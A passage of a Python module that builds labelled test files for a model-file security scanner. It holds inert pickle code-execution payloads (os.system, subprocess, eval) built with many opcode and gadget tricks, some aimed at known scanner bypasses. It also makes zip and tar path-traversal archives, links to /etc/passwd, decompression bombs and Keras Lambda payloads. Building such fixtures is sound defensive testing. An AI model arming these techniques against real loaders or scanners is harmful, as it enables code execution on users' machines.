"""The files of `artifact_techniques`: each function yields those of one family. Payloads are inert."""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import json
import lzma
import pickle
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np

__all__ = ["Made", "boosters", "containers", "graphs", "pickled", "saved_by_torch", "texts"]


@dataclass(frozen=True)
class Made:
    """A file: what it shows, what a scan has to say of it, its name and its bytes."""

    technique: str
    expected: str
    name: str
    data: bytes


class Call:
    """Pickled, it is a call that its loader would make."""

    def __init__(self, module: str, name: str, *args: Any) -> None:
        self.of, self.args = (module, name), args

    def pickled(self, proto: int = 4) -> bytes:
        """The pickle, without importing what it names."""
        module, name = self.of
        inner = pickle.dumps(self.args, proto)
        start = inner.index(b"\x95") + 9 if b"\x95" in inner[:4] else 2 if proto > 1 else 0
        body = inner[start:-1]
        head = b"" if proto < 2 else b"\x80" + bytes([proto])
        return head + f"c{module}\n{name}\n".encode() + body + b"R."


EVIL = Call("os", "system", "true").pickled()
TEXT = b"cos\nsystem\n(S'true'\ntR."
GOOD = pickle.dumps({"weights": [1.0, 2.0], "names": ["a", "b"]}, 4)


class _System:
    def __reduce__(self) -> Any:
        import os

        return os.system, ("true",)


def s(text: str) -> bytes:
    """A short text of protocol 4, remembered."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw + b"\x94"


# -------------------------------------------------------------------------------------------------------------- pickles


def pickled() -> Iterator[Made]:
    """The machine's opcodes, names of every dangerous family, and what lies around a pickle."""
    odict = collections.OrderedDict(a=1, b=[2, 3])
    for proto in range(6):
        yield Made(f"protocol {proto}, REDUCE", "malicious", f"p{proto}.pkl", pickle.dumps(_System(), proto))
        yield Made(f"protocol {proto}, benign", "clean", f"p{proto}-good.pkl", pickle.dumps(odict, proto))
    p4 = b"\x80\x04"
    joined = p4 + b"cbuiltins\ngetattr\n" + s("") + s("join") + b"\x86R]" + s("o") + b"a" + s("s") + b"a\x85R"
    raws = {
        "memo: the name comes from the memo": p4 + s("system") + b"0" + s("os") + b"h\x00\x93" + s("true") + b"\x85R.",
        "STACK_GLOBAL of a computed text": joined + s("system") + b"\x93" + s("true") + b"\x85R.",
        "DUP and POP between the operands": p4 + s("os") + b"20" + s("system") + b"\x93" + s("true") + b"\x85R.",
        "EXT1 of a name registered in the same pickle": b"\x80\x02ccopyreg\nadd_extension\n(S'os'\nS'system'\nK\xf0tR0"
        b"\x82\xf0(S'true'\ntR.",
        "BUILD on a class": b"\x80\x02cos\nenviron\n}U\x01aU\x01bsb.",
        "BUILD sets __setstate__": b"\x80\x02ccollections\nOrderedDict\n)R}U\x0c__setstate__cos\nsystem\nsbU\x04trueb.",
        "INST": b"(S'true'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nS'true'\no.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\nU\x04true\x85\x81.",
        "NEWOBJ_EX": p4 + s("subprocess") + s("Popen") + b"\x93" + s("true") + b"\x85}\x92.",
        "a persistent id that imports": b"\x80\x02(U\x07storagecos\nsystem\nU\x010tQ.",
        "a nested pickle, pickle.loads": Call("pickle", "loads", EVIL).pickled(),
        "a pickle in bytes, torch.storage._load_from_bytes": Call(
            "torch.storage", "_load_from_bytes", EVIL).pickled(),
        "a second pickle behind a harmless one": GOOD + EVIL,
        "a pickle behind zeros": GOOD + bytes(64) + EVIL,
        "an invalid opcode after the payload": EVIL[:-1] + b"\xff\xfe",
        "cut off after the payload": EVIL[:-1],
        "a frame shorter than its opcodes": p4 + b"\x95" + struct.pack("<Q", 3) + EVIL[2:],
        "a dotted name": p4 + s("torch") + s("os.system") + b"\x93" + s("true") + b"\x85R.",
        "Python 2's name of builtins": b"c__builtin__\neval\n(S'1'\ntR.",
        "escaped text of protocol 0": b"cos\nsystem\n(S'\\x74rue'\ntR.",
        "a unicode name of protocol 0": b"Vos\n0cos\nsystem\n(Vtrue\ntR.",
        "the payload behind 5,000 harmless entries": b"\x80\x04]" + b"K\x01a" * 5000 + b"0" + EVIL[2:],
    }  # fmt: skip
    nothing = b"\x89\x88\x87R(K\x03" + s("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
    raws |= {
        "STACK_GLOBAL of bytes (modelscan 338)": p4 + b"C\x02os" + s("system") + b"\x93.",
        "BUILD on a function of numpy (modelscan 330)": p4 + b"cnumpy\nsize\n}}" + s("shape")
        + b"cnumpy\n__builtins__\ns\x86b.",
        "type() with a hook (modelaudit PR 1061)": p4 + b"cbuiltins\ntype\n" + s("P") + b")}"
        + s("__add__") + b"Ns\x87R.",
        "attrgetter of a dunder": p4 + b"coperator\nattrgetter\n" + s("__init__.__globals__") + b"\x85R.",
        "a dtype of objects that says it has none": p4 + b"cnumpy\ndtype\n" + s("O8") + nothing + b"K\x00tb.",
    }  # fmt: skip
    for index, (technique, data) in enumerate(raws.items()):
        yield Made(technique, "malicious", f"opcode{index}.pkl", data)
    twins = {
        "memo": p4 + s("OrderedDict") + b"0" + s("collections") + b"h\x00\x93)R.",
        "INST": b"(icollections\nOrderedDict\np0\n.",
        "OBJ": b"(ccollections\nOrderedDict\no.",
        "NEWOBJ": b"\x80\x02ccollections\nOrderedDict\n)\x81.",
        "NEWOBJ_EX": p4 + s("collections") + s("OrderedDict") + b"\x93)}\x92.",
        "two pickles": GOOD + GOOD,
        "a numpy array": pickle.dumps(np.arange(50.0), 4),
        "bytes": pickle.dumps(b"\x00\x01" * 100, 4),
        "a dtype of objects": p4 + b"cnumpy\ndtype\n" + s("O8") + nothing + b"K\x3ftb.",
        "a method of texts": pickle.dumps({"preprocessor": str.lower}, 4),
    }
    for name, data in twins.items():
        yield Made(f"{name}, benign", "clean", f"twin {name}.pkl".replace(" ", "-"), data)
    yield Made("trailing data", "suspicious", "trailing.pkl", GOOD + b"\x7fELF and more")
    yield Made("an unknown name", "suspicious", "unknown.pkl", Call("my_company.layers", "Gate", 1).pickled())
    yield Made("EXT1 of an unknown number", "reported", "ext.pkl", b"\x80\x02\x82\xf0.")
    yield from _families()


def _families() -> Iterator[Made]:
    calls: dict[str, tuple[Call, str]] = {
        "os": (Call("posix", "system", "true"), "malicious"),
        "subprocess": (Call("subprocess", "check_output", ["true"]), "malicious"),
        "builtins.eval": (Call("builtins", "eval", "1"), "malicious"),
        "builtins.exec": (Call("builtins", "exec", "pass"), "malicious"),
        "builtins.getattr": (Call("builtins", "getattr", 1, "__class__"), "malicious"),
        "runpy": (Call("runpy", "run_module", "antigravity"), "malicious"),
        "pip": (Call("pip", "main", ["list"]), "malicious"),
        "pip._internal": (Call("pip._internal.cli.main", "main", ["list"]), "malicious"),
        "ctypes": (Call("ctypes", "CDLL", "libm.so"), "malicious"),
        "code object": (Call("types", "CodeType", 0), "malicious"),
        "mailcap (modelaudit PR 1061)": (Call("mailcap", "findmatch", {}, "text/plain"), "malicious"),
        "uuid (GHSA-g38g-8gr9-h9xp)": (Call("uuid", "_get_command_stdout", "true"), "malicious"),
        "pkgutil (GHSA-vvpj-8cmc-gx39)": (Call("pkgutil", "resolve_name", "os:system"), "malicious"),
        "pty (fickling PR 108)": (Call("pty", "spawn", "true"), "malicious"),
        "a vendored six (modelaudit PR 1061)": (Call("botocore.vendored.six.moves", "getoutput", "true"), "malicious"),
        "typing (modelaudit PR 1061)": (Call("typing", "_eval_type", "1"), "malicious"),
        "mlflow (modelscan 338)": (Call("mlflow.projects.backend.local", "_run_entry_point", "true"), "malicious"),
        "a module that another imported (modelscan 89)": (Call("numpy", "core._internal.sys.exit", 0), "malicious"),
        "an unlisted function of a library": (Call("sklearn.datasets", "fetch_openml", "x"), "malicious"),
        "an unlisted module of Python": (Call("zipapp", "create_archive", "x"), "malicious"),
        "marshal": (Call("marshal", "loads", b"N"), "malicious"),
        "network, urllib": (Call("urllib.request", "urlopen", "http://127.0.0.1"), "malicious"),
        "network, socket": (Call("socket", "create_connection", ("127.0.0.1", 9)), "malicious"),
        "file write, open": (Call("builtins", "open", "/dev/null", "w"), "malicious"),
        "file write, numpy": (Call("numpy", "savetxt", "/dev/null", [1]), "malicious"),
        "file removal": (Call("shutil", "rmtree", "/nonexistent"), "malicious"),
        "import": (Call("importlib", "import_module", "this"), "malicious"),
        "thread": (Call("threading", "Timer", 1, print), "malicious"),
        "numpy's own exec": (Call("numpy.testing._private.utils", "runstring", "pass", {}), "malicious"),
        "torch's own exec": (Call("torch.utils.collect_env", "run", "true"), "malicious"),
        "pandas.eval": (Call("pandas", "eval", "1"), "malicious"),
        "joblib.load": (Call("joblib", "load", "/nonexistent"), "malicious"),
        "asyncio": (Call("asyncio.unix_events", "_UnixSubprocessTransport._start", 0), "malicious"),
        "timeit": (Call("timeit", "timeit", "pass"), "malicious"),
        "cProfile": (Call("cProfile", "run", "pass"), "malicious"),
        "pdb": (Call("pdb", "run", "pass"), "malicious"),
        "codecs.encode": (Call("_codecs", "encode", "a", "rot13"), "suspicious"),
    }
    for index, (name, (call, expected)) in enumerate(calls.items()):
        yield Made(f"name: {name}", expected, f"name{index}.pkl", call.pickled())
    apply = b"\x80\x02cfunctools\npartial\ncos\nsystem\n\x85R)R."
    yield Made("gadget: functools.partial", "malicious", "partial.pkl", apply)
    state = b"\x80\x02cfunctools\npartial\ncbuiltins\nint\n\x85R(cos\nsystem\nU\x04true\x85}Ntb)R."
    yield Made("gadget: __setstate__ of functools.partial", "malicious", "setstate.pkl", state)
    default = b"\x80\x02ccollections\ndefaultdict\ncos\ngetpid\n\x85RU\x01a0."
    yield Made("gadget: defaultdict with a factory", "malicious", "default.pkl", default)
    again = b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncsubprocess\nPopen\nK\x00\x85U\x01b\x87R."
    yield Made("gadget: numpy's _reconstruct of a foreign class", "malicious", "reconstruct.pkl", again)
    copied = b"\x80\x02ccopyreg\n_reconstructor\ncsubprocess\nPopen\nc__builtin__\nobject\nN\x87R."
    yield Made("gadget: copyreg of a foreign class", "malicious", "copyreg.pkl", copied)
    laughs = b"\x80\x04]\x94" + b"".join(
        b"](" + b"h" + bytes([i]) + (b"h" + bytes([i])) * 9 + b"e\x94" for i in range(40)) + b"."  # fmt: skip
    yield Made("memo expansion", "malicious", "laughs.pkl", laughs)
    yield from _estimators()


def _estimators() -> Iterator[Made]:
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import FunctionTransformer

    x = np.random.default_rng(0).normal(size=(40, 3))
    fitted = LogisticRegression().fit(x, x[:, 0] > 0)
    yield Made("an estimator's state, benign", "clean", "lr.pkl", pickle.dumps(fitted, 4))
    hidden = LogisticRegression()
    hidden.extra = _System()  # type: ignore[attr-defined]
    yield Made("gadget: a call in an estimator's state", "malicious", "lr-evil.pkl", pickle.dumps(hidden, 4))
    function = FunctionTransformer(eval)
    yield Made("gadget: FunctionTransformer of eval", "malicious", "ft.pkl", pickle.dumps(function, 4))
    yield Made("FunctionTransformer, benign", "clean", "ft-good.pkl", pickle.dumps(FunctionTransformer(np.log1p), 4))


# ----------------------------------------------------------------------------------------------------------- containers


def packed(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def _zip_with(info: zipfile.ZipInfo, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, data)
    return out.getvalue()


def tarred(*entries: tuple[str, bytes, Callable[[tarfile.TarInfo], None] | None]) -> bytes:
    """A tar of entries, each changed by its function."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data, change in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            if change is not None:
                change(info)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def lz4_frame(data: bytes) -> bytes:
    """A frame of LZ4 with one stored block, without checksums but that of its header."""
    flags = b"\x60\x70"
    return b"\x04\x22\x4d\x18" + flags + bytes([xxh32(flags) >> 8 & 0xFF]) + struct.pack(
        "<I", len(data) | 1 << 31) + data + bytes(4)  # fmt: skip


def xxh32(data: bytes) -> int:
    """XxHash of fewer than 16 bytes, seed 0."""
    a, b, c, d, e = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    total = (e + len(data)) & 0xFFFFFFFF
    whole = len(data) // 4 * 4
    for at in range(0, whole, 4):
        total = (total + int.from_bytes(data[at : at + 4], "little") * c) & 0xFFFFFFFF
        total = ((total << 17 | total >> 15) & 0xFFFFFFFF) * d & 0xFFFFFFFF
    for byte in data[whole:]:
        total = (total + byte * e) & 0xFFFFFFFF
        total = ((total << 11 | total >> 21) & 0xFFFFFFFF) * a & 0xFFFFFFFF
    total = (total ^ total >> 15) * b & 0xFFFFFFFF
    total = (total ^ total >> 13) * c & 0xFFFFFFFF
    return total ^ total >> 16


def zstd_frame(data: bytes) -> bytes:
    """A frame of Zstandard with one raw block."""
    block = struct.pack("<I", len(data) << 3 | 1)[:3] + data
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(data)) + block


def containers() -> Iterator[Made]:
    """Streams and archives: what they hold, how they lie, where they lead, what they grow to."""
    streams: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress, "zstd": zstd_frame,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE), "lz4": lz4_frame,
    }  # fmt: skip
    for name, pack in streams.items():
        yield Made(f"{name}: a pickle", "malicious", f"m.{name}", pack(EVIL))
        yield Made(f"{name}, benign", "clean", f"good.{name}", pack(GOOD))
        yield Made(f"{name}: a bomb", "malicious", f"bomb.{name}", pack(bytes(1 << 27)) if name not in (
            "lz4", "zstd") else gzip.compress(pack(bytes(1 << 27))))  # fmt: skip
    yield from _zips()
    yield from _tars()
    deep = EVIL
    for _ in range(4):
        deep = packed({"a": gzip.compress(deep)})
    yield Made("nested: zip in gzip in zip", "malicious", "deep.zip", deep)
    for _ in range(8):
        deep = packed({"a": deep})
    yield Made("nested beyond the cap", "malicious", "deeper.zip", deep)
    yield Made("nested, benign", "clean", "nested.zip", packed({"a.tar.gz": gzip.compress(tarred(("b", GOOD, None)))}))
    for name, magic in {"7z": b"7z\xbc\xaf\x27\x1c\x00\x04", "tflite": b"\x1c\0\0\0TFL3"}.items():
        yield Made(f"{name}, which no reader knows", "unknown", f"m.{name}", magic + bytes(range(200)))
    net = b'<?xml version="1.0"?><net name="m" version="11"><layers/></net>'
    rds = b"X\n\0\0\0\3\0\4\3\0\0\3\5\0\0\0\0\5UTF-8"
    symbol = struct.pack(">IIi", 1, 0x00040009, 6) + b"system"
    text = struct.pack(">IIIi", 16, 1, 0x00040009, 4) + b"true"
    promise = struct.pack(">II", 5, 0xFB) + struct.pack(">I", 6) + symbol + struct.pack(">I", 2) + text + b"\0\0\0\xfe"
    yield Made("R: a promise", "suspicious", "promise.rds", rds + promise)
    yield Made("OpenVINO, which no reader knows", "reported", "openvino.xml", net)
    yield Made("a file of nothing", "reported", "empty.pkl", b"")
    yield Made("bytes of no format", "reported", "noise.bin", bytes(range(200, 256)) * 9)


def _zips() -> Iterator[Made]:
    plain = packed({"a.pkl": GOOD, "b.pkl": GOOD})
    for name, method in (("stored", 0), ("deflate", 8), ("bzip2", 12), ("lzma", 14)):
        yield Made(f"zip, {name}, benign", "clean", f"{name}.zip", packed({"a.pkl": GOOD, "b.pkl": GOOD}, method))
        yield Made(f"zip, {name}: a pickle", "malicious", f"{name}-evil.zip", packed({"a": EVIL}, method))
    first = plain.index(b"a.pkl")
    renamed = plain[:first] + b"c.pkl" + plain[first + 5 :]
    yield Made("zip: two names for one member", "suspicious", "names.zip", renamed)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("a.pkl", GOOD)
            archive.writestr("a.pkl", EVIL)
    yield Made("zip: one name twice", "malicious", "twice.zip", out.getvalue())
    flagged = bytearray(packed({"a.pkl": EVIL}))
    flagged[6] |= 1
    flagged[flagged.index(b"PK\1\2") + 8] |= 1
    yield Made("zip: an encryption bit that lies", "malicious", "flag.zip", bytes(flagged))
    wrong = bytearray(plain)
    wrong[14] ^= 0xFF
    wrong[wrong.index(b"PK\1\2") + 16] ^= 0xFF
    yield Made("zip: a wrong checksum", "suspicious", "crc.zip", bytes(wrong))
    sizes = bytearray(plain)
    sizes[22] ^= 7
    yield Made("zip: sizes that disagree", "reported", "sizes.zip", bytes(sizes))
    yield Made("zip slip", "malicious", "slip.zip", packed({"../../a": GOOD}))
    yield Made("zip: an absolute name", "malicious", "abs.zip", packed({"/etc/a": GOOD}))
    link = zipfile.ZipInfo("a")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    yield Made("zip: a link that leaves", "malicious", "link.zip", _zip_with(link, b"/etc/passwd"))
    yield Made("zip: a bomb", "malicious", "bomb.zip", packed({"a": bytes(1 << 28)}, 8))
    yield Made("zip behind other bytes", "reported", "before.zip", b"#!/bin/sh\ntrue\n" + plain)
    yield Made("zip with a pickle in front", "malicious", "polyglot.zip", EVIL + plain)
    hidden = packed({"x.pkl": EVIL})
    gap = hidden[: hidden.index(b"PK\1\2")]
    end = plain.rindex(b"PK\5\6")
    at = int.from_bytes(plain[end + 16 : end + 20], "little")
    moved = (
        plain[:at] + gap + plain[at:end] + plain[end : end + 16] + struct.pack("<I", at + len(gap)) + plain[end + 20 :]
    )
    yield Made("zip: a member in no directory", "malicious", "hidden.zip", moved)


def _tars() -> Iterator[Made]:
    def link(kind: bytes, target: str) -> Callable[[tarfile.TarInfo], None]:
        def change(info: tarfile.TarInfo) -> None:
            info.type, info.linkname = kind, target

        return change

    yield Made("tar, benign", "clean", "good.tar", tarred(("a.pkl", GOOD, None), ("b/c.pkl", GOOD, None)))
    yield Made("tar: a pickle", "malicious", "evil.tar", tarred(("a", EVIL, None)))
    yield Made("tar slip", "malicious", "slip.tar", tarred(("../../a", GOOD, None)))
    yield Made("tar: a link that leaves", "malicious", "sym.tar", tarred(("a", b"", link(tarfile.SYMTYPE, "/etc/x"))))
    yield Made(
        "tar: a hard link that leaves", "malicious", "hard.tar", tarred(("a", b"", link(tarfile.LNKTYPE, "../x")))
    )
    yield Made("tar: a device", "malicious", "dev.tar", tarred(("a", b"", link(tarfile.CHRTYPE, ""))))
    yield Made("tar: a link inside, benign", "clean", "in.tar", tarred(
        ("a.pkl", GOOD, None), ("b", b"", link(tarfile.SYMTYPE, "a.pkl"))))  # fmt: skip


# ------------------------------------------------------------------------------------------ torch, numpy, joblib, Keras


def _saved(found: Any, **how: Any) -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(found, out, **how)
    return out.getvalue()


def saved_by_torch() -> Iterator[Made]:
    """What torch, numpy, joblib and Keras write."""
    import torch

    net = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU())
    state = net.state_dict()
    for name, how in (("zip", {}), ("legacy stream", {"_use_new_zipfile_serialization": False})):
        yield Made(f"torch, {name}, benign", "clean", f"{name}.pt".replace(" ", "-"), _saved(state, **how))
        evil = _saved({**state, "x": _System()}, **how)
        yield Made(f"torch, {name}: a call", "malicious", f"evil-{name}.pt".replace(" ", "-"), evil)
    yield Made(
        "torch: a pickle in another member", "malicious", "member.pt", _added(_saved(state), {"archive/x": EVIL})
    )
    legacy = {"storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2), "pickle": b"\x80\x02}."}
    yield Made("torch, legacy tar, benign", "clean", "legacy.tar", tarred(*((n, d, None) for n, d in legacy.items())))
    legacy["pickle"] = EVIL
    yield Made(
        "torch, legacy tar: a call", "malicious", "legacy-evil.tar", tarred(*((n, d, None) for n, d in legacy.items()))
    )
    yield from _scripts(net)
    yield from _packages()
    yield from _arrays()
    yield from _joblib()
    yield from _keras()


def _added(archive: bytes, members: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """A zip with further members, or other ones in their place."""
    with zipfile.ZipFile(io.BytesIO(archive)) as old:
        held = {name: old.read(name) for name in old.namelist() if name not in drop}
    return packed(held | members)


def _scripts(net: Any) -> Iterator[Made]:
    import torch

    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.trace(net, torch.zeros(1, 3)), out)
    good = out.getvalue()
    yield Made("TorchScript, benign", "clean", "script.pt", good)
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        names = archive.namelist()
        code = next(name for name in names if name.endswith(".py"))
        text = archive.read(code)
        top = names[0].split("/")[0]
    body = text + b'\ndef bad(x: Tensor) -> Tensor:\n  torch.save([x], "/nonexistent/x")\n  return x\n'
    yield Made("TorchScript: code that writes a file", "malicious", "script-evil.pt", _added(good, {code: body}))
    yield Made("TorchScript: a call in its constants", "malicious", "constants.pt",
               _added(good, {f"{top}/constants.pkl": EVIL}))  # fmt: skip
    elf = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
    exported = {"m/archive_format": b"pt2", "m/archive_version": b"0", "m/version": b"1\n", "m/byteorder": b"little"}
    native = {"m/data/aotinductor/model/a.wrapper.so": elf}
    yield Made("pt2 with a native object", "suspicious", "native.pt2", packed({**exported, **native}))
    yield Made("pt2 with pickled weights", "malicious", "pickled.pt2", packed({
        **exported, "m/data/weights/weight_0": EVIL, "m/data/weights/model_weights_config.json": json.dumps(
            {"config": {"a": {"path_name": "weight_0", "use_pickle": True}}}).encode()}))  # fmt: skip
    if hasattr(torch, "export"):
        out = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.export.save(torch.export.export(net, (torch.zeros(1, 3),)), out)
        yield Made("pt2, benign", "clean", "good.pt2", out.getvalue())


def _packages() -> Iterator[Made]:
    base = {"p/.data/extern_modules": b"torch\n", "p/.data/version": b"6\n", "p/.data/python_version": b"3.11"}
    code = {"p/m/__init__.py": b"import os\nos.system('true')\n", "p/model/model.pkl": GOOD}
    yield Made("torch.package with code", "suspicious", "package.pt", packed({**base, **code}))
    yield Made("torch.package: a call", "malicious", "package-evil.pt", packed({**base, "p/model/model.pkl": EVIL}))
    manifest = {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "h.py"}, "archiverVersion": "0.9.0"}
    mar = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "h.py": b"import os\nos.system('true')\n"}
    yield Made(".mar with a handler", "suspicious", "m.mar", packed(mar))
    manifest["model"] = {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier"}
    import torch

    fine = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "m.pt": _saved({"a": torch.zeros(2)})}
    yield Made(".mar, benign", "clean", "good.mar", packed(fine, 8))


def _arrays() -> Iterator[Made]:
    def npy(array: np.ndarray) -> bytes:
        out = io.BytesIO()
        np.save(out, array, allow_pickle=True)
        return out.getvalue()

    def npz(**arrays: np.ndarray) -> bytes:
        out = io.BytesIO()
        np.savez_compressed(out, **arrays)  # type: ignore[arg-type]
        return out.getvalue()

    evil = np.array([_System(), 1], dtype=object)
    yield Made("npy of objects: a call", "malicious", "o.npy", npy(evil))
    yield Made("npy of objects, benign", "clean", "o-good.npy", npy(np.array(["a", 1, None], dtype=object)))
    yield Made("npz of objects: a call", "malicious", "o.npz", npz(a=np.zeros(3), b=evil))
    yield Made("npz, benign", "clean", "good.npz", npz(a=np.zeros(3), b=np.arange(4)))
    yield Made("npy: bytes after the array", "malicious", "after.npy", npy(np.zeros(3)) + EVIL)
    head = b"{'descr': '<f8', 'fortran_order': False, 'shape': (999999999, 99999), }"
    yield Made(
        "npy: a size that nothing has", "reported", "huge.npy", b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head
    )


def _joblib() -> Iterator[Made]:
    import joblib

    ways: tuple[Any, ...] = (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3))
    for way in ways:
        name = way[0] if way else "plain"
        for what, found in (("a call", [np.zeros(9), _System()]), ("benign", [np.zeros(9), {"a": 1}])):
            out = io.BytesIO()
            joblib.dump(found, out, compress=way)
            expected = "clean" if what == "benign" else "malicious"
            yield Made(f"joblib, {name}: {what}", expected, f"{what} {name}.joblib".replace(" ", "-"), out.getvalue())
    plain = io.BytesIO()
    joblib.dump([np.zeros(9), _System()], plain)
    yield Made("joblib, lz4: a call", "malicious", "lz4.joblib", lz4_frame(plain.getvalue()))
    objects = io.BytesIO()
    joblib.dump(np.array([_System()], dtype=object), objects)
    yield Made("joblib: an array of objects", "malicious", "objects.joblib", objects.getvalue())


def _layer(kind: str, config: dict[str, Any], module: str = "keras.layers", registered: str | None = None) -> str:
    dense = {"module": module, "class_name": kind, "config": {"name": "l", **config}, "registered_name": registered}
    whole = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [dense]}}
    return json.dumps(whole)


def _keras() -> Iterator[Made]:
    lambda_ = {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None}}}
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    cases = {
        "benign": (_layer("Dense", {"units": 2, "activation": "relu"}), "clean"),
        "Lambda": (_layer("Lambda", lambda_), "malicious"),
        "a custom object": (_layer("Gate", {}, "my_company.layers", "My>Gate"), "suspicious"),
        "a module reference": (_layer("system", {}, "os"), "malicious"),
        "a function reference": (_layer("Dense", {"units": 2, "activation": function}), "malicious"),
    }  # fmt: skip
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}).encode()
    empty = hdf5({})
    for name, (config, expected) in cases.items():
        keras = packed({"metadata.json": meta, "config.json": config.encode(), "model.weights.h5": empty})
        yield Made(f".keras: {name}", expected, f"{name}.keras".replace(" ", "-"), keras)
        held = {"model_config": config, "keras_version": "3.8.0", "backend": "tensorflow"}
        yield Made(f".h5: {name}", expected, f"{name}.h5".replace(" ", "-"), hdf5(held))
    link = b"\x00/etc/passwd\x00/x\x00"
    yield Made(
        ".h5: an external link",
        "malicious",
        "external.h5",
        hdf5({}, b"\x01\x08\x40\x01x" + struct.pack("<H", len(link)) + link),
    )


def _lookup3(data: bytes) -> int:
    """Jenkins' hash, as HDF5 has it."""
    mask = 0xFFFFFFFF

    def rot(x: int, n: int) -> int:
        return (x << n | x >> (32 - n)) & mask

    words = [(0xDEADBEEF + len(data)) & mask] * 3
    blocks = [data[at : at + 12].ljust(12, b"\0") for at in range(0, len(data), 12)]
    for block in blocks:
        words = [(word + more) & mask for word, more in zip(words, struct.unpack("<III", block), strict=True)]
        if block is not blocks[-1]:
            for step, n in enumerate((4, 6, 8, 16, 19, 4)):
                i, j, k = step % 3, (step + 2) % 3, (step + 1) % 3
                words[i] = (words[i] - words[j]) & mask ^ rot(words[j], n)
                words[j] = (words[j] + words[k]) & mask
    for step, n in enumerate((14, 11, 25, 16, 4, 14, 24)):
        i, j = (step + 2) % 3, (step + 1) % 3
        words[i] = ((words[i] ^ words[j]) - rot(words[j], n)) & mask
    return words[2]


def hdf5(attributes: dict[str, str], link: bytes = b"") -> bytes:
    """A file of version 2 with texts as attributes of its root, and at most one link."""
    messages = b""
    for name, text in attributes.items():
        value, key = text.encode(), name.encode() + b"\0"
        kind, space = b"\x13\0\0\0" + struct.pack("<I", len(value)), b"\2\0\0\0"
        message = b"\3\0" + struct.pack("<HHH", len(key), len(kind), len(space)) + b"\0" + key + kind + space + value
        messages += b"\x0c" + struct.pack("<HB", len(message), 0) + message
    if link:
        messages += b"\x06" + struct.pack("<HB", len(link), 0) + link
    else:
        info = b"\0\0" + b"\xff" * 16
        messages += b"\x02" + struct.pack("<HB", len(info), 0) + info
    header = b"OHDR\2\2" + struct.pack("<I", len(messages)) + messages
    end = 48 + len(header) + 4
    top = b"\x89HDF\r\n\x1a\n\2\x08\x08\0" + struct.pack("<QQQQ", 0, (1 << 64) - 1, end, 48)
    return top + struct.pack("<I", _lookup3(top)) + header + struct.pack("<I", _lookup3(header))


# --------------------------------------------------------------------------------- graphs: TensorFlow, ONNX and tensors


def field(number: int, value: bytes | str | int) -> bytes:
    """A field of protobuf's."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(raw)) + raw


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def saved_model(op: str, *, inside: bool = False) -> bytes:
    """A SavedModel with one further operator, in its graph or in a function."""
    node = field(1, field(1, "x") + field(2, "Placeholder")) + field(1, field(1, "n") + field(2, op) + field(3, "x"))
    graph = node
    if inside:
        called = field(1, field(1, "f")) + field(3, field(1, "n") + field(2, op))
        graph = field(1, field(1, "x") + field(2, "Placeholder")) + field(2, field(1, called))
    meta = field(1, field(4, "serve")) + field(2, graph + field(4, field(1, 1087)))
    return field(1, 1) + field(2, meta)


def onnx(*, op: str = "Relu", domain: str = "", where: str = "", dims: tuple[int, ...] = (2,), note: str = "") -> bytes:
    """A model of one node and one tensor, whose data may lie elsewhere."""
    data = field(9, bytes(8)) if not where else field(13, field(1, "location") + field(2, where)) + field(14, 1)
    tensor = b"".join(field(1, size) for size in dims) + field(2, 1) + field(8, "w") + data
    value = field(1, "x") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 2)))))
    out = field(1, "y") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 2)))))
